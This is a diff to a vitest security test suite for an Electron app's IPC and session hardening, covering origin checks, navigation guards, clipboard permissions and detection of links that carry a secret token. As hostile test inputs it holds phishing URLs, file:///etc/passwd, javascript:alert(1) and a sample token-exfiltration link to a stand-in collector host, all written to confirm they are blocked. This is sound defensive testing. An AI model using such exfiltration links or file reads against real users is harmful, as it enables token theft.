@@ -2,12 +2,21 @@
 import { beforeEach, describe, expect, it, vi } from 'vitest';
 import { checkSender, registerIpc, type IpcHandlers } from '../../electron/ipc.js';
 import { channels } from '../../electron/ipc-contract.js';
-import { FALLBACK_CSP, guardWebContents, hardenSession, isAppUrl, isSafeExternalUrl, originOf } from '../../electron/security.js';
+import {
+  carriesSecret,
+  FALLBACK_CSP,
+  guardWebContents,
+  hardenSession,
+  isAppUrl,
+  isSafeExternalUrl,
+  originOf,
+  permissionAllowed,
+} from '../../electron/security.js';
 import { BrowserWindow, fake } from '../fakes/electron.js';
 
 vi.mock('electron', () => import('../fakes/electron.js'));
 
-const APP = 'http://127.0.0.1:8787';
+const APP = 'app://hybrid-ai';
 
 function handlers(): IpcHandlers & { calls: string[] } {
   const calls: string[] = [];
@@ -39,8 +48,9 @@ describe('ipc.ts', () => {
 
   it.each([
     ['a foreign site', 'https://evil.example/'],
-    ['another local port', 'http://127.0.0.1:9999/'],
-    ['localhost instead of 127.0.0.1 (another origin)', 'http://localhost:8787/'],
+    ['the port the core had (whoever holds it now)', 'http://127.0.0.1:8787/'],
+    ['another host on the app scheme', 'app://evil/'],
+    ['a look-alike scheme', 'apps://hybrid-ai/'],
     ['a file: page', 'file:///tmp/x.html'],
     ['about:blank', 'about:blank'],
     ['no frame', ''],
@@ -88,11 +98,14 @@ describe('security.ts', () => {
   beforeEach(() => fake.reset());
 
   it('origins and external URLs', () => {
-    expect(originOf('http://127.0.0.1:8787/x#y')).toBe(APP);
+    expect(originOf('app://hybrid-ai/x#y')).toBe(APP);
+    expect(originOf('http://127.0.0.1:8787/x#y')).toBe('http://127.0.0.1:8787');
     expect(originOf('about:blank')).toBeNull();
+    expect(originOf('file:///etc/passwd')).toBeNull();
     expect(originOf('not a url')).toBeNull();
     expect(isAppUrl(`${APP}/assets/a.js`, APP)).toBe(true);
     expect(isAppUrl('http://127.0.0.1:8788/', APP)).toBe(false);
+    expect(isAppUrl('app://hybrid-ai.evil.example/', APP)).toBe(false);
     expect(isAppUrl(`${APP}/`, null)).toBe(false);
     expect(isSafeExternalUrl('https://example.com')).toBe(true);
     expect(isSafeExternalUrl('mailto:a@b.c')).toBe(true);
@@ -100,17 +113,18 @@ describe('security.ts', () => {
       expect(isSafeExternalUrl(bad), bad).toBe(false);
   });
 
-  it('guards: same-origin navigation passes, anything else is cancelled (http(s) opened outside), window.open always denied, no <webview>', () => {
+  it('guards: same-origin navigation passes, anything else is cancelled and never opened outside, window.open always denied, no <webview>', () => {
     const w = new BrowserWindow();
-    const opened: string[] = [];
-    guardWebContents(w.webContents as never, { appOrigin: () => APP, openExternal: (u) => opened.push(u) });
+    guardWebContents(w.webContents as never, { appOrigin: () => APP });
     expect(w.webContents.navigate(`${APP}/#/models`).prevented).toBe(false);
     expect(w.webContents.navigate('https://evil.example/phish').prevented).toBe(true);
     expect(w.webContents.navigate('file:///etc/passwd').prevented).toBe(true);
     expect(w.webContents.open(`${APP}/#/chat`)).toEqual({ action: 'deny' });
     expect(w.webContents.open('https://docs.anthropic.com/')).toEqual({ action: 'deny' });
     expect(w.webContents.open('javascript:alert(1)')).toEqual({ action: 'deny' });
-    expect(opened).toEqual(['https://evil.example/phish', `${APP}/#/chat`, 'https://docs.anthropic.com/']);
+    // A scripted `location = 'https://x/?t=' + token` must not reach the system browser: nothing is opened here.
+    expect(w.webContents.navigate('https://collect.example/?t=tok-0123456789abcdef').prevented).toBe(true);
+    expect(fake.shell.opened).toEqual([]);
     const redirect = {
       defaultPrevented: false,
       preventDefault() {
@@ -129,15 +143,30 @@ describe('security.ts', () => {
     expect(webview.defaultPrevented).toBe(true);
   });
 
-  it('session: every permission denied; a CSP is added to app pages that lack one, never replacing the core’s', () => {
+  it('links carrying the token are recognised (as is and URL-encoded)', () => {
+    const tok = 'hai_abc/def+0123456789';
+    expect(carriesSecret(`https://x.example/?t=${tok}`, [tok])).toBe(true);
+    expect(carriesSecret(`https://x.example/?t=${encodeURIComponent(tok)}`, [tok])).toBe(true);
+    expect(carriesSecret('https://docs.anthropic.com/', [tok])).toBe(false);
+  });
+
+  it('session: every permission denied but clipboard-sanitized-write for the app; a CSP is added to app pages that lack one', () => {
     const s = fake.session.defaultSession;
     hardenSession(s as never, () => APP);
     for (const p of ['media', 'geolocation', 'notifications', 'clipboard-read', 'openExternal', 'fullscreen']) {
       let answer: boolean | undefined;
-      s.permissionRequestHandler!({}, p, (ok) => (answer = ok));
+      s.permissionRequestHandler!({}, p, (ok) => (answer = ok), { requestingUrl: `${APP}/` });
       expect(answer, p).toBe(false);
-      expect(s.permissionCheckHandler!({}, p), p).toBe(false);
+      expect((s.permissionCheckHandler as (...a: unknown[]) => boolean)({}, p, APP), p).toBe(false);
     }
+    // Quick ask's and chat's Copy buttons write plain text; only the app's own pages may.
+    let copy: boolean | undefined;
+    s.permissionRequestHandler!({}, 'clipboard-sanitized-write', (ok) => (copy = ok), { requestingUrl: `${APP}/#/quick-ask` });
+    expect(copy).toBe(true);
+    s.permissionRequestHandler!({}, 'clipboard-sanitized-write', (ok) => (copy = ok), { requestingUrl: 'https://evil.example/' });
+    expect(copy).toBe(false);
+    expect((s.permissionCheckHandler as (...a: unknown[]) => boolean)({}, 'clipboard-sanitized-write', APP)).toBe(true);
+    expect(permissionAllowed('clipboard-sanitized-write', 'http://127.0.0.1:8787/', APP)).toBe(false);
     const run = (url: string, headers: Record<string, string[]>) => {
       let out: Record<string, string[]> | undefined;
       s.headersHandler!({ url, responseHeaders: headers }, (r: { responseHeaders: Record<string, string[]> }) => (out = r.responseHeaders));
